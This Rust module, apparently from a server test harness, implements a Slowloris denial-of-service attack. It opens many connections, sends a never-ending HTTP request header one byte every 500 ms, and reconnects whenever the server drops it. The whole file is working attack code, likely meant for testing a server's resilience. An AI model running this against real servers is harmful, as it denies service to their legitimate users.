//! Connections that send a request so slowly that it never ends.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::sleep,
};

use crate::{
    http::{Site, new_source},
    pace::Pace,
};

/// Attackers, each with an address of its own. They hang up when it is dropped.
pub struct Slowloris {
    _attackers: JoinSet<()>,
}

impl Slowloris {
    /// Sends this many, each of which begins with so many bytes at once; returns when all have had the time to connect.
    pub async fn start(site: &Site, count: usize, head_bytes: usize) -> Self {
        let mut attackers = JoinSet::new();
        let mut pace = Pace::per_second(ARRIVALS_PER_SECOND);
        for _ in 0..count {
            pace.tick().await;
            let site = site.clone();
            attackers.spawn(async move { attack(&site, head_bytes).await });
        }
        Self { _attackers: attackers }
    }
}

/// Begins anew whenever the server ends it.
async fn attack(site: &Site, head_bytes: usize) {
    let source = new_source();
    loop {
        if let Ok(stream) = site.connect_raw(source).await {
            let _ = speak(stream, site, head_bytes).await;
        }
        sleep(BETWEEN_BYTES).await;
    }
}

async fn speak(mut stream: TcpStream, site: &Site, head_bytes: usize) -> std::io::Result<()> {
    let head = format!("GET /config.json HTTP/1.1\r\nHost: {}\r\nX-Slow: ", site.address());
    stream.write_all(format!("{head:x<head_bytes$}").as_bytes()).await?;
    let mut answer = [0; 512];
    loop {
        // An answer is the end of it, whatever it says.
        tokio::select! {
            _ = stream.read(&mut answer) => return Ok(()),
            () = sleep(BETWEEN_BYTES) => stream.write_all(b"x").await?,
        }
    }
}

const ARRIVALS_PER_SECOND: u32 = 500;

/// Often enough that a server that counts silence alone never ends it.
const BETWEEN_BYTES: Duration = Duration::from_millis(500);
